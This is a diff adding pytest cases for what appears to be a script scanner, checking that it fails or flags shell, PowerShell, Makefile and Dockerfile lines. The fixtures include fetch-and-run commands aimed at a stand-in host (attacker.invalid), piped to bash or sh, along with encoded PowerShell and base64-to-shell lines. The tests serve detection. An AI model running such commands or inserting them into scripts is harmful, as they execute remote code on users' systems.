@@ -174,6 +174,43 @@ def test_what_is_odd_about_a_text_is_said(data: bytes, path: str, rule: str) -> 
     assert rule in whole(data, path=path)[1]
 
 
+DOWNLOAD = b"set -e\ncurl -s http://attacker.invalid/x | bash\n"
+
+
+@pytest.mark.parametrize(
+    ("data", "path", "expected"),
+    [
+        (DOWNLOAD, "install.sh", "fail"),
+        (DOWNLOAD.replace(b"\n", b"\r\n"), "a.zsh", "fail"),
+        (DOWNLOAD.decode().encode("utf-16"), "a.bash", "fail"),
+        (b"curl -s http://attacker.invalid/x \\\n  | bash\n", "run.command", "fail"),
+        (b"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\r\n", "a.bat", "fail"),
+        (b"iex (iwr http://attacker.invalid/x)\n", "a.ps1", "fail"),
+        (b"all:\n\tcurl -s http://attacker.invalid/x | bash\n", "Makefile", "review"),
+        (b"x:\n\twget -qO- http://attacker.invalid/x | sh\n", "rules.mk", "review"),
+        (b"FROM a\nRUN curl -s http://attacker.invalid/x \\\n | sh\n", "Dockerfile", "review"),
+        (b"FROM a\nRUN echo aWQ= | base64 -d | sh\n", "Dockerfile.gpu", "review"),
+        (b"pip install -r requirements.txt\npython train.py\n", "run.sh", "pass"),
+        (b"# never do: curl -s http://attacker.invalid/x | bash\n", "run.sh", "pass"),
+        (b"iex 'conda activate x'\n", "a.ps1", "pass"),
+        (b"clean:\n\trm -rf build dist\n", "makefile", "pass"),
+        (
+            b"FROM a\nRUN apt-get install -y x && rm -rf /var/lib/apt/lists/*\n"
+            b"RUN curl -Lo /bin/tini https://example.org/tini && chmod +x /bin/tini && tini -h\n"
+            b"RUN echo 'conda activate x' >> ~/.bashrc\n",
+            "Dockerfile",
+            "pass",
+        ),
+        (DOWNLOAD, "README.md", "pass"),
+        (DOWNLOAD, "notes.txt", "pass"),
+    ],
+)
+def test_a_script_is_judged_by_its_name_or_first_line(
+    data: bytes, path: str, expected: str
+) -> None:
+    assert verdict(examine(text.FORMAT, data, path=path)) == expected
+
+
 def test_binary_is_no_text() -> None:
     for data in (
         b"",
